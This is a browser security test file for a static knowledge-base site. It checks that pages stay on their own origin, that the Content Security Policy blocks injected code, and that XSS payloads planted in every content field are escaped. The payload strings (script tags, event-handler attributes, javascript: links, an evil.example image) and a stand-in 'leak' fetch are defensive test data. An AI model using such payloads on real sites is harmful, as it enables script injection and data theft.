"""In chromium: nothing leaves the site, the security policy holds without breaking a page, and no injected script runs.

Every request a page makes is recorded (and anything bound for another host
is stopped before it leaves, so a failure here never reaches the network).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Route, expect

from tests.support.building import kb_build
from tests.support.repo import REPOSITORY, copy_content
from tests.support.server import serve_directory

pytestmark = pytest.mark.browser

# One page of every kind the site has.
PAGES = {
    "home": "",
    "practice": "practices/neighbourhood-managers-frankfurt/",
    "workshop": "workshops/amsterdam-2016-local-preventive-approach/",
    "event": "events/think-globally-act-locally-2016/",
    "organisation": "organisations/nctv/",
    "country": "countries/de/",
    "approach": "approaches/community-engagement/",
    "audience": "audiences/communities/",
    "practices-list": "practices/",
    "workshops-list": "workshops/",
    "events-list": "events/",
    "organisations-list": "organisations/",
    "countries-list": "countries/",
    "approaches-list": "approaches/",
    "audiences-list": "audiences/",
    "contribute": "contributing/",
    "statistics": "statistics/",
    "benchmarks": "benchmarks/",
    "collection": "collections/think-globally-act-locally-2016/",
    "collection-handout": "collections/think-globally-act-locally-2016/handout/",
    "collection-compact": "collections/think-globally-act-locally-2016/compact/",
    "collections-list": "collections/",
    "open-data": "data/",
    "field-reference": "contributing/fields/",
    "review-due": "contributing/review/",
    "search-page": "search/?q=Frankfurt",
    "not-found": "404.html",
}
# Pages without the site's header, so without its search box.
NO_SEARCH = {"not-found", "collection-handout", "collection-compact"}
# Material's script looks for the header the bare handout and compact pages leave out (overrides/kb-bare.html)
# and says so in the console; that is not a security matter, and is left to the owners of those pages.
BARE_PAGE_ERRORS = {'Missing element: expected "[data-md-component=header]" to be present'}
WATCH_VIOLATIONS = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', (e) => {
  window.__violations.push(`${e.violatedDirective} blocked ${e.blockedURI || 'inline code'}`);
});
"""


@dataclass
class Watch:
    """Everything one browser context asked for or complained about."""

    origin: str
    requests: list[str] = field(default_factory=list)
    stopped: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)

    def leaving(self) -> list[str]:
        return [url for url in self.requests if not url.startswith((self.origin, "data:", "blob:", "about:"))]


def watched_context(browser: Browser, origin: str) -> tuple[BrowserContext, Watch]:
    watch = Watch(origin.rstrip("/"))
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(WATCH_VIOLATIONS)

    def gate(route: Route) -> None:
        if route.request.url.startswith((watch.origin, "data:", "blob:")):
            route.continue_()
        else:
            watch.stopped.append(route.request.url)
            route.abort()

    context.route("**/*", gate)
    context.on("request", lambda request: watch.requests.append(request.url))
    return context, watch


def watch_page(context: BrowserContext, watch: Watch) -> Page:
    page = context.new_page()
    page.on("console", lambda m: watch.errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda error: watch.errors.append(str(error)))

    def dismiss(dialog: Dialog) -> None:
        watch.dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    return page


def use_search(page: Page, query: str) -> None:
    page.get_by_role("combobox", name="Search practices, countries and organisations").click()
    page.keyboard.type(query)
    expect(page.locator(".kb-search__results .kb-result").first).to_be_visible()


@pytest.mark.parametrize("kind", list(PAGES))
def test_page_stays_on_its_origin_and_within_its_policy(browser: Browser, site_url: str, kind: str) -> None:
    context, watch = watched_context(browser, site_url)
    try:
        page = watch_page(context, watch)
        page.goto(site_url + PAGES[kind], wait_until="networkidle")
        assert page.locator('meta[http-equiv="Content-Security-Policy"]').count() == 1
        if kind not in NO_SEARCH:
            use_search(page, "Frankfurt")  # search's script, WebAssembly and index load under the policy too
            page.wait_for_load_state("networkidle")
        violations = page.evaluate("window.__violations")
    finally:
        context.close()
    assert watch.leaving() == [], f"requests to other hosts: {watch.leaving()}"
    assert watch.stopped == []
    assert violations == []
    known = BARE_PAGE_ERRORS if kind in ("collection-handout", "collection-compact") else set()
    assert [error for error in watch.errors if error not in known] == []
    assert any("/pagefind/" in url for url in watch.requests) or kind in NO_SEARCH


def test_the_policy_stops_injected_code(browser: Browser, site_url: str) -> None:
    # The control for the test above: the policy is enforced, not only present.
    context, watch = watched_context(browser, site_url)
    try:
        page = watch_page(context, watch)
        page.goto(site_url + PAGES["practice"], wait_until="networkidle")
        page.evaluate(
            """() => {
              document.body.insertAdjacentHTML('beforeend', '<img src="x.png" onerror="window.__ran = 1">');
              const script = document.createElement('script');
              script.textContent = 'window.__ran = 2';
              document.body.append(script);
              fetch('https://example.org/leak').catch(() => {});
            }"""
        )
        page.wait_for_timeout(300)
        ran = page.evaluate("window.__ran")
        violations = page.evaluate("window.__violations")
    finally:
        context.close()
    assert ran is None
    assert any(v.startswith("script-src") for v in violations), violations
    assert any(v.startswith("connect-src") for v in violations), violations
    assert watch.leaving() == [] or all(url in watch.stopped for url in watch.leaving())


# --- Hostile text in every field of every kind of entry ---------------------------------------------------

PAYLOAD = "</title><script>alert('xss')</script><img src=x onerror=alert('xss')>\"'><svg onload=alert('xss')>"
SHORT = "<b onclick=alert(1)>"  # for fields of at most 20 characters
MARKDOWN_PAYLOAD = "[x](javascript:alert('xss')) {: onclick=alert('xss') } ![x](https://evil.example/p.png)"


def quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


HOSTILE_ENTRIES = {
    "docs/organisations/xss-organisation.md": f"""---
name: {quoted("Org " + PAYLOAD)}
name_original: {quoted(MARKDOWN_PAYLOAD)}
abbreviation: {quoted(SHORT)}
summary: {quoted("Organisation " + PAYLOAD)}
countries: [DE]
sources:
  - title: {quoted("Source " + PAYLOAD)}
    publisher: {quoted(MARKDOWN_PAYLOAD)}
    locator: {quoted(PAYLOAD)}
last_reviewed: '2026-11-24'
---
""",
    "docs/events/xss-event.md": f"""---
title: {quoted("Event " + PAYLOAD)}
subtitle: {quoted(MARKDOWN_PAYLOAD)}
summary: {quoted("Event summary " + PAYLOAD)}
start_date: '2016-02-01'
end_date: '2016-02-02'
city: {quoted("City " + SHORT)}
country: NL
organisers: [xss-organisation]
format: {quoted(PAYLOAD)}
participants: {quoted(PAYLOAD)}
findings:
  - text: {quoted("Finding " + PAYLOAD)}
    approaches: [community-engagement]
sources:
  - title: {quoted("Source " + PAYLOAD)}
last_reviewed: '2026-11-24'
---
""",
    "docs/workshops/xss-workshop.md": f"""---
title: {quoted("Workshop " + PAYLOAD)}
event: xss-event
summary: {quoted("Workshop summary " + PAYLOAD)}
format: {quoted(MARKDOWN_PAYLOAD)}
approaches: [community-engagement]
findings:
  - text: {quoted("Workshop finding " + PAYLOAD)}
    approaches: [community-engagement]
sources:
  - title: {quoted("Source " + PAYLOAD)}
last_reviewed: '2026-11-24'
---
""",
    "docs/practices/xss-practice.md": f"""---
title: {quoted("Practice " + PAYLOAD)}
title_original: {quoted(MARKDOWN_PAYLOAD)}
summary: {quoted("Practice summary " + PAYLOAD)}
countries: [DE]
places: [{quoted(PAYLOAD)}]
organisations: [xss-organisation]
approaches: [community-engagement]
status: unknown
evidence: not-documented
website: {quoted("https://example.org/?q='onmouseover=alert('xss')//&x=(1)")}
contact:
  organisation: xss-organisation
  url: {quoted("https://example.org/contact?'/onload=alert('xss')//")}
presented_at: [xss-workshop]
related: [neighbourhood-managers-frankfurt]
sources:
  - title: {quoted("Source " + PAYLOAD)}
    publisher: {quoted(PAYLOAD)}
    locator: {quoted(MARKDOWN_PAYLOAD)}
    url: {quoted("https://example.org/report(1)')alert('xss')[x](y)")}
    accessed: '2026-11-24'
last_reviewed: '2026-11-24'
---

## What it does

Plain text; the body's own hostile forms are refused by the validator (tests/cases/invalid/hostile-*). Its
marker carries the hostile source title into a link's title [1].
""",
    "docs/collections/xss-collection.md": f"""---
title: {quoted("Collection " + PAYLOAD)}
curator: xss-organisation
event: xss-event
description: {quoted("Collection description " + PAYLOAD + " " + MARKDOWN_PAYLOAD)}
items:
  - practice: xss-practice
    note: {quoted("Note " + PAYLOAD)}
sources:
  - title: {quoted("Source " + PAYLOAD)}
last_reviewed: '2026-11-24'
---
""",
}
# A hand-written page's front matter: Material writes its title into every page's navigation.
HOSTILE_PAGE_META = f"""---
title: {quoted("Contribute " + PAYLOAD)}
description: {quoted("How to contribute " + PAYLOAD)}
---
"""
HOSTILE_PAGES = [
    "contributing/",
    "collections/xss-collection/",
    "collections/xss-collection/handout/",
    "collections/xss-collection/compact/",
    "collections/",
    "practices/xss-practice/",
    "workshops/xss-workshop/",
    "events/xss-event/",
    "organisations/xss-organisation/",
    "practices/",
    "workshops/",
    "events/",
    "organisations/",
    "countries/de/",
    "approaches/community-engagement/",
    "practices/neighbourhood-managers-frankfurt/",
    "",
]


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = copy_content(tmp_path_factory.mktemp("hostile-repo"))
    for relative, text in HOSTILE_ENTRIES.items():
        (root / relative).write_text(text, encoding="utf-8")
    contributing = root / "docs" / "contributing.md"
    contributing.write_text(HOSTILE_PAGE_META + contributing.read_text(encoding="utf-8"), encoding="utf-8")
    site = tmp_path_factory.mktemp("hostile-site")
    result = kb_build(root, site)
    assert result.returncode == 0, result.stderr  # text is only text: valid, and built
    return site


def test_hostile_text_in_every_field_is_shown_never_run(browser: Browser, hostile_site: Path) -> None:
    with serve_directory(hostile_site) as url:
        context, watch = watched_context(browser, url)
        try:
            page = watch_page(context, watch)
            page.add_init_script("window.__xss = 0")
            for path in HOSTILE_PAGES:
                page.goto(url + path, wait_until="networkidle")
                assert page.evaluate("window.__violations") == [], path
            page.goto(url + "practices/", wait_until="networkidle")  # the browse page builds its cards in script
            expect(page.locator(".kb-browse")).to_contain_text("Practice </title><script>alert('xss')</script>")
            page.goto(url + "practices/xss-practice/", wait_until="networkidle")
            expect(page.get_by_role("heading", level=1)).to_contain_text("</title><script>alert('xss')</script>")
            page.goto(url + "contributing/", wait_until="networkidle")
            expect(page.locator(".md-header__title")).to_contain_text("Contribute </title><script>alert('xss')")
            use_search(page, "xss")  # search results render titles, metadata and excerpts too
            page.wait_for_timeout(500)
            shown = page.locator(".kb-search__results").inner_text()
            page.goto(url + "search/?q=alert", wait_until="networkidle")
            expect(page.locator(".kb-result").first).to_be_visible()
            injected = page.evaluate(
                "document.querySelectorAll('.md-content script, svg[onload], img[onerror], "
                ".kb-result img, .kb-result script, .kb-result svg').length"
            )
        finally:
            context.close()
    assert watch.dialogs == []
    assert injected == 0
    assert "<script>" in shown, "hostile titles are shown as text in search results"
    assert watch.leaving() == []
    for path in HOSTILE_PAGES:
        html = (hostile_site / path / "index.html").read_text(encoding="utf-8")
        elements = Elements()
        elements.feed(html)
        assert elements.handlers == [], f"{path}: {elements.handlers}"
        assert not any("xss" in script for script in elements.scripts), path
    practice = (hostile_site / "practices" / "xss-practice" / "index.html").read_text(encoding="utf-8")
    assert "<title>Practice &lt;/title&gt;&lt;script&gt;" in practice, "the page title is escaped"
    home = (hostile_site / "index.html").read_text(encoding="utf-8")
    assert "Contribute &lt;/title&gt;&lt;script&gt;" in home, "a hand-written page's title is text in the navigation"


class Elements(HTMLParser):
    """Event-handler attributes and inline script bodies in a page, as a browser would parse them."""

    def __init__(self) -> None:
        super().__init__()
        self.handlers: list[str] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handlers += [f"<{tag} {name}>" for name, _ in attrs if name.startswith("on")]
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)


def test_repository_pages_list_is_complete(built_site: Path) -> None:
    # Every kind of page the site generates is in PAGES above.
    top = {p.parent.name for p in built_site.glob("*/index.html")}
    listed = {path.split("/")[0] for path in PAGES.values() if path and "/" in path}
    assert top - {"search"} <= listed, sorted(top - listed)
    assert REPOSITORY.is_dir()
